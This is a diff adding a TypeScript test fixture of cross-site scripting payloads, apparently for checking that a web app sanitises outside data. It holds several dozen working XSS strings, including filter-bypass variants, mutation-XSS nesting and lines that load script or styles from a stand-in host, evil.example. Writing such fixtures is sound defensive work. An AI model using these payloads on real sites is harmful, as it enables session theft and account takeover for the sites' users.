@@ -1,0 +1,44 @@
+// Hostile markup and text fed through every place where outside data reaches the page.
+// Each payload that ran would set window.__xss, open a dialog, or request evil.example.
+const FLAG = 'window.__xss=1';
+
+export const XSS_PAYLOADS: readonly string[] = [
+  `<script>${FLAG}</script>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror="${FLAG}">`,
+  `<img src="x" onerror=alert(1)>`,
+  `<svg onload="${FLAG}"></svg>`,
+  `<svg><script>${FLAG}</script></svg>`,
+  `<svg><animate onbegin="${FLAG}" attributeName="x" dur="1s"/></svg>`,
+  `<a href="javascript:${FLAG}">click</a>`,
+  `<a href="JaVaScRiPt:alert(1)">click</a>`,
+  `<a href="&#106;avascript:alert(1)">click</a>`,
+  `<a href="java&#x09;script:alert(1)">click</a>`,
+  `<iframe src="javascript:${FLAG}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  `<body onload="${FLAG}">`,
+  `<div onmouseover="${FLAG}" style="position:fixed;inset:0">hover</div>`,
+  `<input autofocus onfocus="${FLAG}">`,
+  `<details open ontoggle="${FLAG}">`,
+  `<video><source onerror="${FLAG}"></video>`,
+  `<audio src=x onerror="${FLAG}"></audio>`,
+  `<object data="javascript:${FLAG}"></object>`,
+  `<embed src="javascript:${FLAG}">`,
+  `<form action="javascript:${FLAG}"><button>go</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${FLAG}">`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<base href="https://evil.example/">`,
+  `<style>@import 'https://evil.example/x.css';</style>`,
+  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${FLAG}">`,
+  `<noscript><p title="</noscript><img src=x onerror=${FLAG}>">`,
+  `"><script>${FLAG}</script>`,
+  `'><img src=x onerror=${FLAG}>`,
+  `%3Cscript%3E${FLAG}%3C/script%3E`,
+  `&lt;script&gt;${FLAG}&lt;/script&gt;`,
+  `<scr<script>ipt>${FLAG}</scr</script>ipt>`,
+  `<img src=x:alert(1) onerror=eval(src)>`,
+];
+
+/** Everything above at once, for fields that take HTML. */
+export const XSS_HTML = XSS_PAYLOADS.join('\n<p>between</p>\n');
